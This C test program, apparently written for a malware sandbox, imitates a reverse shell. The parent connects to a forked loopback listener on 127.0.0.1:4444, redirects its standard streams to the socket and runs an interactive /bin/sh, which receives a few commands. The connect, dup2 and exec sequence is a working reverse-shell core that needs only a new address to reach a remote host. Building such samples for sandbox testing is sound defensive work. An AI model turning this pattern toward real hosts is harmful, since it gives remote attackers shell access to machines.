/*
 * test-revshell: a harmless test program for the ScaleMalNet sandbox.
 * Imitates a reverse shell (ADFA-LD "meterpreter"-style): a forked child
 * plays the attacker's listener on 127.0.0.1:4444, sends the commands
 * "id", "uname -a", "exit" and prints what comes back; the parent connects
 * to it, dup2s the socket onto fds 0, 1 and 2 and execs /bin/sh -i. Only the
 * loopback address is used.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define PORT 4444

static void listener(int lfd)
{
	int c = accept(lfd, NULL, NULL);
	close(lfd);
	if (c < 0) {
		perror("accept");
		return;
	}
	static const char cmds[] = "id\nuname -a\nexit\n";
	if (write(c, cmds, sizeof cmds - 1) != (ssize_t)(sizeof cmds - 1))
		perror("write commands");
	char out[8192];
	size_t used = 0;
	ssize_t n;
	while (used < sizeof out - 1 && (n = read(c, out + used, sizeof out - 1 - used)) > 0)
		used += n;
	close(c);
	out[used] = '\0';
	printf("listener received %zu bytes:\n%s\nlistener: done\n", used, out);
	fflush(stdout); /* the caller leaves with _exit() */
}

int main(void)
{
	struct sockaddr_in addr;
	memset(&addr, 0, sizeof addr);
	addr.sin_family = AF_INET;
	addr.sin_port = htons(PORT);
	addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK); /* 127.0.0.1 only */

	/* Listen before forking so the parent's connect cannot race the child. */
	int lfd = socket(AF_INET, SOCK_STREAM, 0);
	int one = 1;
	if (lfd < 0 || setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0 ||
	    bind(lfd, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(lfd, 1) < 0) {
		perror("listener on 127.0.0.1:4444");
		return 1;
	}
	fflush(stdout);
	pid_t pid = fork();
	if (pid < 0) {
		perror("fork");
		return 1;
	}
	if (pid == 0) {
		listener(lfd);
		_exit(0);
	}
	close(lfd);

	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof addr) < 0) {
		perror("connect 127.0.0.1:4444");
		return 1;
	}
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	if (s > 2)
		close(s);
	execl("/bin/sh", "sh", "-i", (char *)NULL);
	execl("/bin/sh", "sh", (char *)NULL);
	return 127;
}
